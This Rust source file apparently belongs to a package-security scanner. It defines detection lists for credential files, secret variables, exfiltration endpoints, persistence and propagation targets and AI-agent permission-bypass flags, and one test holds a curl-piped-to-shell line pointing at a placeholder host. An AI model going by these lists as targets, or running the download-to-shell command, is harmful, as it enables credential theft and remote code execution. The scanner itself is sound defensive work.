//! The shared text classifiers: credential stores, secret variables,
//! exfiltration endpoints, persistence and propagation targets, AI-agent
//! flags, shell idioms and encoded payloads, as they appear in string
//! literals, command lines and npm scripts of either language.

use super::signals::Kind;

/// Credential stores, matched in string literals (paths are often split:
/// `os.path.join(home, ".aws", "credentials")`, so parts count too).
pub(crate) const CREDENTIALS: &[(&str, &str)] = &[
    (".ssh/id_", "~/.ssh keys"),
    ("id_rsa", "~/.ssh keys"),
    ("id_ed25519", "~/.ssh keys"),
    (".ssh", "~/.ssh keys"),
    (".aws/credentials", "~/.aws"),
    (".aws", "~/.aws"),
    (".azure", "~/.azure"),
    ("gcloud/", "gcloud"),
    ("application_default_credentials", "gcloud"),
    (".kube/config", "~/.kube/config"),
    (".kube", "~/.kube/config"),
    ("serviceaccount/token", "service-account token"),
    (".npmrc", ".npmrc"),
    (".pypirc", ".pypirc"),
    (".git-credentials", "git credentials"),
    (".netrc", ".netrc"),
    (".docker/config.json", "docker config"),
    ("Login Data", "browser store"),
    ("Local State", "browser store"),
    ("wallet.dat", "wallet"),
    ("Exodus", "wallet"),
    ("electrum", "wallet"),
    ("nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet"),
    (".bash_history", "shell history"),
    (".zsh_history", "shell history"),
    ("_authToken", ".npmrc"),
    (".env", ".env files"),
    (".vault-token", "vault token"),
];

/// Credential patterns too common in configuration loading to buy a parse.
pub(crate) const SOFT_CREDENTIAL_PATTERNS: &[&str] = &[".env"];

/// Secret-named environment variables.
pub(crate) const SECRET_VARS: &[&str] = &[
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_ACCESS_KEY_ID",
    "AWS_SESSION_TOKEN",
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "NPM_TOKEN",
    "NODE_AUTH_TOKEN",
    "PYPI_TOKEN",
    "TWINE_PASSWORD",
    "HF_TOKEN",
    "AZURE_CLIENT_SECRET",
    "GOOGLE_APPLICATION_CREDENTIALS",
    "SLACK_TOKEN",
    "DISCORD_TOKEN",
];

/// Endpoints that receive stolen data: webhooks, paste and file-drop sites,
/// interaction catchers.
pub(crate) const EXFIL_HOSTS: &[(&str, &str)] = &[
    ("discord.com/api/webhooks", "Discord webhook"),
    ("discordapp.com/api/webhooks", "Discord webhook"),
    ("api.telegram.org/bot", "Telegram bot"),
    ("hooks.slack.com", "Slack webhook"),
    ("webhook.site", "webhook.site"),
    ("pastebin.com", "paste site"),
    ("paste.ee", "paste site"),
    ("hastebin", "paste site"),
    ("transfer.sh", "file drop"),
    ("file.io", "file drop"),
    ("ngrok.io", "tunnel"),
    ("ngrok-free.app", "tunnel"),
    ("requestbin", "request catcher"),
    ("pipedream.net", "request catcher"),
    ("oast.", "interaction catcher"),
    ("interact.sh", "interaction catcher"),
    ("burpcollaborator", "interaction catcher"),
];

pub(crate) const PERSISTENCE: &[(&str, Kind, &str)] = &[
    ("/etc/systemd/", Kind::Persistence, "systemd unit"),
    (".config/systemd/user", Kind::Persistence, "systemd unit"),
    ("systemctl enable", Kind::Persistence, "systemd unit"),
    ("systemctl --user enable", Kind::Persistence, "systemd unit"),
    ("[Service]", Kind::Persistence, "systemd unit"),
    ("crontab", Kind::Persistence, "cron"),
    ("/etc/cron", Kind::Persistence, "cron"),
    (".bashrc", Kind::Persistence, "shell rc"),
    (".zshrc", Kind::Persistence, "shell rc"),
    (".bash_profile", Kind::Persistence, "shell rc"),
    ("LaunchAgents", Kind::Persistence, "launch agent"),
    ("LaunchDaemons", Kind::Persistence, "launch agent"),
    ("CurrentVersion\\Run", Kind::Persistence, "registry run key"),
    ("schtasks", Kind::Persistence, "scheduled task"),
    ("sitecustomize.py", Kind::StartupWrite, "sitecustomize.py"),
    ("usercustomize.py", Kind::StartupWrite, "usercustomize.py"),
    (
        ".claude/settings",
        Kind::AgentConfig,
        ".claude/settings.json",
    ),
    (".claude.json", Kind::AgentConfig, ".claude.json"),
    ("mcpServers", Kind::AgentConfig, "MCP server entry"),
    (".cursor/mcp.json", Kind::AgentConfig, "MCP server entry"),
    (
        ".vscode/tasks.json",
        Kind::AgentConfig,
        ".vscode/tasks.json",
    ),
];

pub(crate) const PROPAGATION: &[(&str, Kind, &str)] = &[
    ("npm publish", Kind::Publish, "npm publish"),
    ("twine upload", Kind::Publish, "twine upload"),
    ("uv publish", Kind::Publish, "uv publish"),
    ("/-/npm/v1/tokens", Kind::Publish, "registry token API"),
    ("git push", Kind::RepoWrite, "git push"),
    (
        ".github/workflows/",
        Kind::RepoWrite,
        "GitHub workflow file",
    ),
    (
        "actions/runners/registration-token",
        Kind::RepoWrite,
        "self-hosted runner",
    ),
    ("config.sh --url", Kind::RepoWrite, "self-hosted runner"),
    ("/user/repos", Kind::RepoWrite, "GitHub repository creation"),
    ("hostPath", Kind::Kubernetes, "hostPath mount"),
    ("\"privileged\"", Kind::Kubernetes, "privileged pod"),
    ("privileged: true", Kind::Kubernetes, "privileged pod"),
    ("/daemonsets", Kind::Kubernetes, "daemonset creation"),
    (
        "create_namespaced_daemon_set",
        Kind::Kubernetes,
        "daemonset creation",
    ),
    ("create_namespaced_pod", Kind::Kubernetes, "pod creation"),
    ("/api/v1/namespaces/", Kind::Kubernetes, "Kubernetes API"),
];

pub(crate) const AI_FLAGS: &[&str] = &[
    "--dangerously-skip-permissions",
    "--yolo",
    "--trust-all-tools",
    "--allow-all-tools",
    "--full-auto",
    "--dangerously-bypass-approvals-and-sandbox",
    "bypassPermissions",
];

pub(crate) const RUNTIMES: &[(&str, &str)] = &[
    ("bun.sh/install", "bun"),
    ("oven-sh/bun/releases", "bun"),
    ("bun-linux-x64", "bun"),
    ("deno.land/install", "deno"),
    ("deno.land/x/install", "deno"),
];

/// Classifies the text of a string literal (or a command line).
pub fn classify_text(text: &str, out: &mut Vec<(Kind, &'static str)>) {
    for (pat, d) in CREDENTIALS {
        if contains_token(text, pat) {
            out.push((Kind::CredentialFile, d));
            break;
        }
    }
    for v in SECRET_VARS {
        if text.contains(v) {
            out.push((Kind::SecretEnv, "secret variable"));
            break;
        }
    }
    for (pat, d) in EXFIL_HOSTS {
        if text.contains(pat) {
            out.push((Kind::ExfilEndpoint, d));
        }
    }
    for (pat, k, d) in PERSISTENCE.iter().chain(PROPAGATION) {
        if text.contains(pat) {
            out.push((*k, d));
        }
    }
    if text.contains("trufflehog") || text.contains("gitleaks") {
        out.push((Kind::SecretScanner, "secret scanner"));
    }
    for (pat, d) in RUNTIMES {
        if text.contains(pat) {
            out.push((Kind::SecondRuntime, d));
        }
    }
    if AI_FLAGS.iter().any(|f| text.contains(f)) {
        out.push((Kind::AiCliBypass, "permission-bypass flag"));
    }
    if has_ip_url(text) {
        out.push((Kind::HardcodedIp, "IP address URL"));
    } else if is_public_ip(text.trim_matches(['"', '\'', '`'])) {
        out.push((Kind::HardcodedIp, "IP address"));
    }
    classify_shell(text, out);
}

/// Shell-level patterns inside a string or an npm script.
pub fn classify_shell(text: &str, out: &mut Vec<(Kind, &'static str)>) {
    let fetch = text.contains("curl ") || text.contains("wget ") || text.contains("iwr ");
    let shell_sink = [
        "| sh", "|sh", "| bash", "|bash", "| node", "| python", "| iex",
    ];
    if fetch && shell_sink.iter().any(|s| text.contains(s)) {
        out.push((Kind::PipeToShell, "download piped to a shell"));
    } else if fetch {
        out.push((Kind::Download, "curl/wget"));
    }
    if text.contains("chmod +x") || text.contains("chmod 7") || text.contains("chmod 0o7") {
        out.push((Kind::Chmod, "chmod +x"));
    }
}

/// `pat` in `text`, where a pattern that is a bare dotted name (`.ssh`,
/// `.env`) must end at a word boundary (so `.environment` is not `.env`).
fn contains_token(text: &str, pat: &str) -> bool {
    let mut start = 0;
    while let Some(i) = text[start..].find(pat) {
        let end = start + i + pat.len();
        let next = text[end..].chars().next();
        let bare = pat.starts_with('.') && !pat.contains('/');
        if !bare || next.is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_') {
            // A bare `.env` must be the whole literal or a path component.
            let before = text[..start + i].chars().last();
            if !bare || before.is_none_or(|c| matches!(c, '/' | '\\' | '~' | ' ' | '"' | '\'')) {
                return true;
            }
        }
        start = end;
    }
    false
}

/// `http(s)://a.b.c.d` with a literal IPv4 host (loopback and private
/// ranges are ignored: local development servers are common).
fn has_ip_url(text: &str) -> bool {
    for scheme in ["http://", "https://", "tcp://"] {
        let mut rest = text;
        while let Some(i) = rest.find(scheme) {
            let after = &rest[i + scheme.len()..];
            let host: String = after
                .chars()
                .take_while(|c| c.is_ascii_digit() || *c == '.')
                .collect();
            let parts: Vec<&str> = host.split('.').collect();
            if parts.len() == 4
                && parts
                    .iter()
                    .all(|p| !p.is_empty() && p.parse::<u8>().is_ok())
                && !is_local_ip(&parts)
            {
                return true;
            }
            rest = after;
        }
    }
    false
}

/// A whole literal that is a public dotted-quad IPv4 address.
fn is_public_ip(s: &str) -> bool {
    let parts: Vec<&str> = s.split('.').collect();
    parts.len() == 4
        && parts
            .iter()
            .all(|p| !p.is_empty() && p.len() <= 3 && p.parse::<u8>().is_ok())
        && !is_local_ip(&parts)
        && parts.first() != Some(&"255")
}

fn is_local_ip(p: &[&str]) -> bool {
    matches!(p.first(), Some(&"127") | Some(&"10") | Some(&"0"))
        || (p.first() == Some(&"192") && p.get(1) == Some(&"168"))
        || (p.first() == Some(&"169") && p.get(1) == Some(&"254"))
        || (p.first() == Some(&"172")
            && p.get(1)
                .and_then(|s| s.parse::<u8>().ok())
                .is_some_and(|n| (16..32).contains(&n)))
}

/// Whether `name` is a secret-named environment variable.
pub fn is_secret_var(name: &str) -> bool {
    SECRET_VARS.contains(&name)
        || (name.starts_with("AWS_") && (name.contains("SECRET") || name.contains("KEY")))
}

/// The first string literal of `args` decoded as base64, when it is one
/// (bounded: payloads over 1 MiB are not unpacked).
pub fn decode_base64_literal(args: &str) -> Option<Vec<u8>> {
    use base64::Engine;
    let start = args.find(['"', '\''])?;
    let q = args[start..].chars().next()?;
    let body = &args[start + 1..];
    let end = body.find(q)?;
    let lit: String = body[..end].chars().filter(|c| !c.is_whitespace()).collect();
    if lit.len() < 16 || lit.len() > (1 << 20) {
        return None;
    }
    let cfg = base64::engine::GeneralPurposeConfig::new()
        .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent);
    let engine = base64::engine::GeneralPurpose::new(&base64::alphabet::STANDARD, cfg);
    engine.decode(lit).ok()
}

/// Shannon entropy in bits per byte.
pub fn entropy(bytes: &[u8]) -> f64 {
    if bytes.is_empty() {
        return 0.0;
    }
    let mut counts = [0u32; 256];
    for &b in bytes {
        counts[b as usize] += 1;
    }
    let n = bytes.len() as f64;
    counts
        .iter()
        .filter(|&&c| c > 0)
        .map(|&c| {
            let p = c as f64 / n;
            -p * p.log2()
        })
        .sum()
}

/// A literal long and random enough to be an encoded payload rather than
/// text or a lookup table: base64/hex alphabet, ≥ 512 bytes, high entropy.
pub fn is_payload_literal(s: &[u8]) -> bool {
    if s.len() < 512 {
        return false;
    }
    let encoded = s
        .iter()
        .filter(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_'))
        .count();
    encoded * 100 / s.len() >= 97 && entropy(s) > 5.0
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(t: &str) -> Vec<Kind> {
        let mut v = Vec::new();
        classify_text(t, &mut v);
        v.into_iter().map(|(k, _)| k).collect()
    }

    #[test]
    fn credentials_and_boundaries() {
        assert!(kinds("~/.aws/credentials").contains(&Kind::CredentialFile));
        assert!(kinds(".env").contains(&Kind::CredentialFile));
        assert!(!kinds(".environment").contains(&Kind::CredentialFile));
        assert!(!kinds("process.env").contains(&Kind::CredentialFile));
        assert!(kinds("/home/x/.ssh/id_rsa").contains(&Kind::CredentialFile));
    }

    #[test]
    fn shell_and_ips() {
        assert!(kinds("curl -fsSL https://x.invalid/i.sh | sh").contains(&Kind::PipeToShell));
        assert!(kinds("http://203.0.113.9/x").contains(&Kind::HardcodedIp));
        assert!(!kinds("http://127.0.0.1:8080/").contains(&Kind::HardcodedIp));
        assert!(!kinds("http://1.2.3/").contains(&Kind::HardcodedIp));
    }

    #[test]
    fn payloads() {
        let text: Vec<u8> = (0..600u32)
            .map(|i| {
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                    [(i * 37 % 64) as usize]
            })
            .collect();
        assert!(is_payload_literal(&text));
        assert!(!is_payload_literal(&[b'a'; 600]));
    }
}
